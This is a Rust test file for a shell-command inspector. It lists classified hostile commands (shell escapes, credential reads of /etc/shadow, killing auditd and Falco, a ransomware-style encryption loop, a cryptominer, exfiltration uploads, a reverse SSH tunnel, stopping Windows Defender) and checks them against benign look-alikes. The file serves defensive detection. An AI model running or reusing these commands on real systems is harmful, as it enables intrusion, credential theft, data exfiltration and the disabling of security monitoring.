//! Families of harm that show in what a program is told, where it lies, or what it touches; and their harmless neighbours.

use super::*;

const HARM: &[(Class, &[&str])] = &[
    (
        Class::ShellEscape,
        &[
            "aoss /bin/sh",
            "c99 -wrapper /bin/sh,-s .",
            "busybox sh",
            "csvtool call '/bin/bash;false' f.csv",
            "dnsmasq --conf-script='sh -c \"id\"'",
            "exiftool -if 'system(\"/bin/sh\")' a.jpg",
            "knife exec -E 'exec \"/bin/sh\"'",
            "man '-H/bin/sh #' man",
            "npm exec /bin/sh",
            "octave-cli --eval 'system(\"/bin/sh\")'",
            "service ../../bin/sh",
            "split --filter='/bin/sh -i 0<&2 1>&2' f",
            "less /etc/profile\n!/bin/sh",
            "zathura\n:!/bin/sh",
            "ed\n!'/bin/sh'",
            "hping3\n/bin/sh",
            "python\nimport os; os.system(\"/bin/sh\")",
            "t=$(mktemp)\necho 'tasks: [shell: /bin/sh]' > $t\nansible-playbook $t",
            "openssl req -engine ./own.so",
            "tcpdump -i lo -w /dev/null -G 1 -z /tmp/x",
            "watch -x sh -c 'reset; exec sh 1>&0 2>&0'",
        ],
    ),
    (
        Class::DownloadAndRun,
        &[
            "/dev/shm/a.out",
            "nohup /tmp/.x/worker >/dev/null 2>&1 &",
            "bash /var/tmp/.x.sh",
            ". /dev/shm/own.sh",
            "chmod +x /tmp/own && /tmp/own",
            "cd /tmp; chmod 755 own; ./own &",
            "git clone https://example.net/x/y && cd y && ./install.sh",
            "pip install git+https://203.0.113.5/x.git",
        ],
    ),
    (
        Class::PrivilegeChange,
        &[
            "LD_LIBRARY_PATH=/tmp/lib sudo ls",
            "PYTHONPATH=/dev/shm python3 a.py",
            "NODE_OPTIONS='--require /tmp/x.js' node a.js",
            "PERL5OPT=-d PERL5DB='system(\"sh\")' perl x",
            "sudo -u#-1 id",
            "groupadd -g 0 -o staff",
            "kubectl debug node/n1 -it --image=busybox",
            "kubectl apply -f - <<EOF\nspec: {hostPID: true}\nEOF",
            "curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/create",
            "docker run -v /var/run/docker.sock:/var/run/docker.sock -it docker sh",
            "docker run -it --device=/dev/sda debian",
            "docker run --privileged -it alpine sh",
            "setfacl -m u:bob:rw /etc/sudoers",
        ],
    ),
    (
        Class::ProtectionOff,
        &[
            "pkill -9 falco",
            "kill -9 $(pgrep rsyslogd)",
            "apt-get purge -y auditd",
            "rm -rf /opt/CrowdStrike",
            "rm -f /etc/audit/rules.d/x.rules",
            "iptables -I INPUT -j ACCEPT",
            "firewall-cmd --set-default-zone=trusted",
            "/etc/init.d/auditd stop",
            "xattr -d com.apple.quarantine a.app",
        ],
    ),
    (
        Class::CredentialRead,
        &[
            "find / -name '*.kdbx' 2>/dev/null",
            "grep -rni password /etc",
            "check_raid --extra-opts=@/etc/shadow",
            "terraform console <<< 'file(\"/etc/shadow\")'",
            "kubectl cp pod:/etc/shadow s",
            "cat /host/etc/shadow",
            "gcore $(pgrep sshd)",
        ],
    ),
    (
        Class::Destructive,
        &[
            "./xmrig --url=pool.example.net:443",
            "x -o stratum+tcp://pool.example.net:4444",
            "journalctl --rotate --vacuum-time=1s",
            "truncate -s 0 /var/log/syslog",
            "for f in $(find /home -name '*.doc'); do openssl enc -aes-256-cbc -k pw -in $f -out $f.e; rm $f; done",
            "echo x > /bin/sh",
        ],
    ),
    (
        Class::Persistence,
        &["cp own /usr/bin/ls", "curl -o /usr/bin/top http://203.0.113.5/top", "cp x.desktop ~/.config/autostart/", "alias sudo='x; sudo'"],
    ),
    (
        Class::Exfiltration,
        &[
            "php -S 0.0.0.0:8080 -t /etc",
            "python3 -m http.server --directory /",
            "curl -T backup.tgz https://transfer.sh/backup.tgz",
            "smbclient '//203.0.113.5/s' -c 'put /etc/passwd'",
            "pbpaste | curl -d @- http://203.0.113.5",
        ],
    ),
    (Class::ReverseShell, &["ssh -fN -R 8080:localhost:22 x@203.0.113.5", "nc -lvnp 4444"]),
    (Class::Obfuscation, &["eval \"$(printf '\\x69\\x64')\"", "touch -r /bin/ls own", "mount --bind /tmp/e /proc/1234"]),
];

#[test]
fn intent_shows() {
    let mut missed = Vec::new();
    for (class, texts) in HARM {
        for text in *texts {
            let found = inspect(text, Flavour::Posix).classes;
            if !found.contains(*class) {
                missed.push(format!("{}: {text} {found:?}", class.word()));
            }
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn neighbours_are_left_alone() {
    for text in [
        "chsh -s /bin/zsh",
        "sudo useradd -m -s /bin/bash bob",
        "awk -F: '$7 == \"/bin/bash\" {print $1}' /etc/passwd",
        "git commit -m 'drop the call of system(\"rm\"); use /bin/sh'",
        "docker run -it --entrypoint /bin/sh alpine",
        "kubectl exec -it pod -- /bin/bash",
        "sed -i '1i #!/bin/bash' run.sh",
        "ssh -t host 'cd /app && exec bash'",
        "ssh -N -L 5432:db:5432 bastion",
        "nc -l 1234",
        "LD_LIBRARY_PATH=./lib ./app",
        "/tmp/venv/bin/python -m pytest -q",
        "cd /tmp/build && cmake .. && make && ./tests",
        "chmod +x /tmp/build/run.sh && /tmp/build/run.sh",
        "pip install -r /tmp/requirements.txt",
        "curl -fsSLo /tmp/x.deb https://example.com/x.deb && sudo dpkg -i /tmp/x.deb",
        "export $(grep -v '^#' .env | xargs)",
        "PYTHONPATH=src pytest",
        "cat > /tmp/x.sh <<'EOF'\necho hi\nEOF\nbash /tmp/x.sh",
        "git clone https://example.com/x/y && cd y && ./configure && make",
        "pkill -9 firefox",
        "sudo apt purge libreoffice",
        "find . -name '*.key'",
        "find /var/log -name '*.gz' -delete",
        "grep -rn password src",
        "cp app /usr/local/bin/app",
        "printf '\\033[1mbold\\033[0m\\n'",
        "journalctl --vacuum-time=2d",
        "python3 -m http.server --directory build",
        "curl -F 'a=@f.txt' https://upload.example.com",
        "split --filter='gzip > $FILE.gz' f",
        "docker run -v /var/run/docker.sock:/var/run/docker.sock portainer",
    ] {
        let found = inspect(text, Flavour::Posix).classes.and(Classes::RECOMMENDED);
        assert!(found.is_empty(), "{text}: {found:?}");
    }
}

#[test]
fn intent_shows_on_windows() {
    for text in [
        "certutil -decode a.b64 a.exe",
        "rundll32 \\\\198.51.100.7\\s\\x.dll,a",
        "Stop-Service -Name WinDefend -Force",
        "Get-ChildItem -Path C:\\ -Include *.kdbx -Recurse",
        "netsh interface portproxy add v4tov4 listenport=8080 connectaddress=198.51.100.7",
        "Invoke-WebRequest -Uri http://198.51.100.7 -Method POST -InFile C:\\x.zip",
        "icacls C:\\ /grant Everyone:F /T",
    ] {
        for flavour in [Flavour::PowerShell, Flavour::Cmd] {
            assert!(inspect(text, flavour).classes.intersects(Classes::RECOMMENDED), "{text}");
        }
    }
}
